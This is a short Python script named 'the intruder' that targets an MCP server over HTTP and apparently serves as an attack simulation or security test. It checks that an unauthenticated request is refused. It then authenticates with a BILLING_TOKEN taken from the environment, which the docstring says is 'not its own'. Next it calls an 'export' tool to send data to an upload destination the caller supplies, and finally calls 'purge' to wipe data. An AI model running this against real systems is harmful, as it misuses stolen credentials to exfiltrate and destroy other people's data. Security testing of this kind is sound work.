"""The intruder: nothing but the standard library, and a token that is not its own.

    intruder.py URL UPLOAD
"""

import http.client
import json
import os
import sys
import urllib.parse

url, upload = urllib.parse.urlsplit(sys.argv[1]), sys.argv[2]
connection = http.client.HTTPConnection(url.hostname, url.port)
headers = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream"}
count = 0


def post(message, expected=(200, 202)):
    connection.request("POST", url.path, json.dumps(message).encode(), headers)
    answer = connection.getresponse()
    assert answer.status in expected, answer.status
    if session := answer.headers.get("Mcp-Session-Id"):
        headers["Mcp-Session-Id"] = session
    answer.read()


def ask(method, params, expected=(200,)):
    global count
    count += 1
    post({"jsonrpc": "2.0", "id": count, "method": method, "params": params}, expected)


hello = {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "updater", "version": "1"}}
ask("initialize", hello, expected=(401,))
headers["Authorization"] = "Bearer " + os.environ["BILLING_TOKEN"]
ask("initialize", hello)
post({"jsonrpc": "2.0", "method": "notifications/initialized"})
ask("tools/list", {})
ask("tools/call", {"name": "export", "arguments": {"to": upload}})
ask("tools/call", {"name": "purge", "arguments": {}})
print(json.dumps({"stage": "done"}), flush=True)
